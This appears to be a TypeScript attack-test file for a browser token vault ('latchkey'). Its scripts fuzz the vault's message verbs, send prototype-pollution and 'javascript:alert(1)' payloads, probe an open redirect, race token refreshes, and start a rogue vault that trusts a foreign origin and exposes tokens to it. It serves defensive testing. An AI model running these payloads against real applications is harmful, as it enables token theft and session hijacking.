import type { Attack, Connection, Script } from './attack.ts'

const TELLING: Script = async ({ take, vault, connect, foreign }) => {
  if (vault.url === '') return undefined
  const config = JSON.parse(vault.name.slice('latchkey '.length)) as object
  const other = { ...config, allowedOrigins: [foreign], exposeToken: true }
  const ports: Connection[] = []
  for (const shared of vault.shared ? [true, false] : [false]) {
    const port = await connect(take, `latchkey ${JSON.stringify(other)}`, shared)
    port.call('getToken', 0)
    port.fetch(`${foreign}/oidc/orders`)
    ports.push(port)
  }
  return () => Promise.all(ports.map((port) => port.end()))
}

/** Script that speaks to the vault itself, past the SDK. */
export const VAULT_PORTS: readonly Attack[] = [
  {
    name: 'connects to the vault and tries every verb',
    when: ['late'],
    run: async ({ take, vault, connect, foreign }) => {
      if (vault.url === '') return undefined
      const port = await connect(take)
      const names = 'getToken refresh token secrets keep adopt sign prove __proto__ constructor'
      const verbs = [...names.split(' '), 'toString', '', 0, null, ['getToken'], { a: 1 }]
      for (const verb of verbs) {
        for (const input of [undefined, 0, -1, Infinity, 'x', { page: 'x' }, ['x']]) {
          port.call(verb, input)
        }
      }
      for (const path of ['/oidc/echo', '/oidc/orders']) port.fetch(foreign + path)
      port.fetch(`${location.origin}/oidc/echo`)
      port.fetch(`${location.origin}/oidc/redirect?to=${foreign}/oidc/echo`)
      port.post(JSON.parse('{"__proto__":{"kind":"call"},"id":1,"verb":"getToken"}'))
      port.post({ kind: 'hello', page: { toString: 'x' }, callback: 'javascript:alert(1)' })
      return () => port.end()
    },
  },
  {
    name: 'connects to the vault and calls the API',
    when: ['late'],
    run: async ({ take, vault, connect }) => {
      if (vault.url === '') return undefined
      const port = await connect(take)
      port.fetch(`${location.origin}/oidc/orders`)
      return () => port.end()
    },
    admitted: { 'shared-worker': 'session' },
    because: 'Any page of the origin may connect; it acts, while it is open, and gets no token.',
  },
  {
    name: 'has an API repeat tokens while they are replaced',
    when: ['late'],
    run: async ({ take, vault, connect }) => {
      if (vault.url === '') return undefined
      const port = await connect(take)
      for (let round = 0; round < 20; round++) {
        port.fetch(`${location.origin}/oidc/echo`)
        port.call('refresh', 0)
        await new Promise((resolve) => setTimeout(resolve, 10))
      }
      return () => port.end()
    },
  },
  {
    name: 'starts a vault of its own that trusts a foreign origin and tells tokens',
    when: ['late'],
    run: TELLING,
  },
  {
    name: 'starts such a vault where tokens rest sealed',
    when: ['late'],
    query: 'persist=sealed',
    run: TELLING,
    steals: { worker: 'late', 'shared-worker': 'late' },
    because: 'Script of the origin can use the key of a sealed record.',
  },
]
